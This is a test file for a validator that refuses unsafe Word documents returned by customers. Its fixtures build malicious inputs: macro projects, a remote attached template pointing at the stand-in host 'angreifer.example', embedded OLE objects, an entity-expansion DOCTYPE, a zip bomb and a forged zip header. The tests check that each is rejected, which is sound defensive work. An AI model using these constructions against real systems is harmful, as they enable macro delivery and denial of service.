import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import PizZip from 'pizzip';
import { describe, expect, it } from 'vitest';
import { loadConfig } from '../config/config.js';
import { RETURNED_FILE_MAX_BYTES, ReturnedFileProblem, readReturnedWordFile } from './returned-word-file.js';

const { templatesDir } = loadConfig({}, '0');
const CONTRACT = readFileSync(join(templatesDir, 'einzelauftrag-de.docx'));

/** The contract with `change` made to its package. */
function changed(change: (zip: PizZip) => void): Buffer {
  const zip = new PizZip(CONTRACT);
  change(zip);
  return zip.generate({ type: 'nodebuffer', compression: 'DEFLATE' });
}

const text = (zip: PizZip, name: string) => zip.file(name)?.asText() ?? '';

async function refusal(fileName: string, content: Buffer): Promise<string> {
  const error = await readReturnedWordFile(fileName, content).then(
    () => undefined,
    (caught: unknown) => caught,
  );
  expect(error, `${fileName} is refused`).toBeInstanceOf(ReturnedFileProblem);
  return (error as ReturnedFileProblem).message;
}

describe('a returned Word file', () => {
  it('is taken with its parts when it is a plain Word document, hyperlinks included', async () => {
    const withLink = changed((zip) =>
      zip.file(
        'word/_rels/document.xml.rels',
        text(zip, 'word/_rels/document.xml.rels').replace(
          '</Relationships>',
          '<Relationship Id="rIdLink" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://kunde.example/datenschutz" TargetMode="External"/></Relationships>',
        ),
      ),
    );
    const parts = await readReturnedWordFile('Vertrag (Kunde).DOCX', withLink);
    expect(parts.get('word/document.xml')?.toString('utf8')).toContain('<w:body>');
    expect(parts.has('[Content_Types].xml')).toBe(true);
  });

  it.each([
    ['a macro-enabled name', 'vertrag.docm', CONTRACT, /enthält Makros/],
    ['another kind of file', 'vertrag.pdf', CONTRACT, /kein Word-Dokument/],
    ['a file that is not a zip', 'vertrag.docx', Buffer.from('%PDF-1.7 kein Word'), /kein Word-Dokument/],
    [
      'a zip without a Word document',
      'vertrag.docx',
      (() => {
        const zip = new PizZip();
        zip.file('readme.txt', 'hallo');
        return zip.generate({ type: 'nodebuffer' });
      })(),
      /kein Word-Dokument/,
    ],
    [
      'a macro project',
      'vertrag.docx',
      changed((zip) => zip.file('word/vbaProject.bin', Buffer.from([0xd0, 0xcf, 0x11, 0xe0]))),
      /enthält Makros/,
    ],
    [
      'a macro-enabled main part',
      'vertrag.docx',
      changed((zip) =>
        zip.file(
          '[Content_Types].xml',
          text(zip, '[Content_Types].xml').replace(
            'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
            'application/vnd.ms-word.document.macroEnabled.main+xml',
          ),
        ),
      ),
      /enthält Makros/,
    ],
    [
      'a template loaded from elsewhere',
      'vertrag.docx',
      changed((zip) =>
        zip.file(
          'word/_rels/settings.xml.rels',
          '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://angreifer.example/vorlage.dotm" TargetMode="External"/></Relationships>',
        ),
      ),
      /lädt Inhalte von außerhalb \(http:\/\/angreifer\.example\/vorlage\.dotm\)/,
    ],
    [
      'an embedded OLE object',
      'vertrag.docx',
      changed((zip) => zip.file('word/embeddings/oleObject1.bin', Buffer.from([0xd0, 0xcf, 0x11, 0xe0]))),
      /eingebettete Objekte/,
    ],
    [
      'an OLE object in the text',
      'vertrag.docx',
      changed((zip) =>
        zip.file(
          'word/document.xml',
          text(zip, 'word/document.xml').replace(
            '<w:body>',
            '<w:body><w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Excel.Sheet.12"/></w:object></w:r></w:p>',
          ),
        ),
      ),
      /eingebettete Objekte/,
    ],
    [
      'entities that expand',
      'vertrag.docx',
      changed((zip) =>
        zip.file(
          'word/document.xml',
          text(zip, 'word/document.xml').replace(
            /^<\?xml[^>]*\?>/,
            '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
          ),
        ),
      ),
      /XML-Definitionen \(DOCTYPE\)/,
    ],
  ])('is refused with a German reason: %s', async (_case, fileName, content, message) => {
    expect(await refusal(fileName, content)).toMatch(message);
  });

  it('is refused when it unpacks to far more than it weighs, or is too large', async () => {
    // 80 MB of zeros pack into some 80 KB: a zip bomb in small.
    const bomb = changed((zip) => zip.file('word/media/leer.bin', Buffer.alloc(80 * 1024 * 1024)));
    expect(bomb.byteLength).toBeLessThan(1024 * 1024);
    expect(await refusal('vertrag.docx', bomb)).toMatch(/ungewöhnlich groß/);
    // A header that claims a small part: the stream is cut where the part outgrows its limit.
    const lying = Buffer.from(bomb);
    const central = lying.lastIndexOf(Buffer.from('word/media/leer.bin'));
    // The central directory's uncompressed size of that entry (24 bytes before its name) set to 1 KB.
    lying.writeUInt32LE(1024, central - 46 + 24);
    expect(await refusal('vertrag.docx', lying)).toMatch(/ungewöhnlich groß|kein Word-Dokument/);
    const large = Buffer.concat([CONTRACT, Buffer.alloc(RETURNED_FILE_MAX_BYTES)]);
    expect(await refusal('vertrag.docx', large)).toBe('Die Datei ist zu groß: höchstens 10 MB.');
  });
});
